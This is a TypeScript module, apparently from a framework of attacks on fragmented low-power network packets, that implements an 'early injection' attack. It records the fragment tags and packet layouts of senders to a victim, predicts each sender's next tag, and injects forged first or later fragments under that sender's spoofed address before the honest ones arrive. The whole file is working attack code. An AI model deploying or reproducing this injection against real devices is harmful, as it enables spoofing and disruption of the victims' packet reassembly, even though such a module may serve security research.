import type { LinkAddress } from "../../firmware/address.js";
import type { AttackContext, AttackFactory } from "./attack.js";
import { isAttackable } from "./fragment-duplication.js";
import { predict } from "./prediction.js";

/** Senders that are kept in mind. */
const REMEMBERED = 64;

/** What the last datagram of a sender looked like: its next one will be alike. */
interface Habit {
	readonly address: LinkAddress;
	size: number;
	tag: number;
	firstEnd: number;
	packet: Uint8Array;
}

/**
 * A fragment of the next datagram, before its sender begins with it: tags count up, and the first copy counts.
 *
 * Each strike takes the next of the senders that were heard; what it sends lies where the honest fragment will.
 */
export const earlyInjection: AttackFactory = {
	name: "early-injection",
	options: {
		fragment: {
			enum: ["first", "next"],
			default: "first",
			description: "The first fragment of the datagram to come, or its last one",
		},
	},
	create(options, context) {
		const isFirst = options["fragment"] === "first";
		const habits = observeHabits(context);
		let turn = 0;
		context.onStrike(() => {
			if (habits.length === 0) return;
			inject(habits[turn++ % habits.length]!, context, isFirst);
		});
	},
};

/** Notes the datagrams of all senders to the victim, the last one of each. */
function observeHabits(context: AttackContext): Habit[] {
	const habits: Habit[] = [];
	context.hear((heard) => {
		if (!isAttackable(heard, context) || !heard.fragment.first) return;
		const prediction = predict(heard, context.contexts, (length) => context.forge.noise(length));
		if (prediction === undefined) return;
		const { source } = heard.header;
		const { size, tag } = heard.fragment;
		const { firstEnd, packet } = prediction;
		const known = habits.find(({ address }) => address.equals(source));
		if (known === undefined) {
			if (habits.length < REMEMBERED) habits.push({ address: source.clone(), size, tag, firstEnd, packet });
		} else Object.assign(known, { size, tag, firstEnd, packet });
	});
	return habits;
}

function inject(habit: Habit, context: AttackContext, isFirst: boolean): void {
	const { forge, victim } = context;
	const { size, firstEnd, packet } = habit;
	const claims = { source: habit.address, destination: victim.address, size, tag: (habit.tag + 1) & 0xffff };
	if (isFirst) {
		context.send(forge.first(claims, packet, firstEnd));
		return;
	}
	const step = forge.step(claims);
	const at = firstEnd + Math.floor(Math.max(0, size - firstEnd - 1) / step) * step;
	if (at < size) context.send(forge.next(claims, at, forge.noise(size - at)));
}
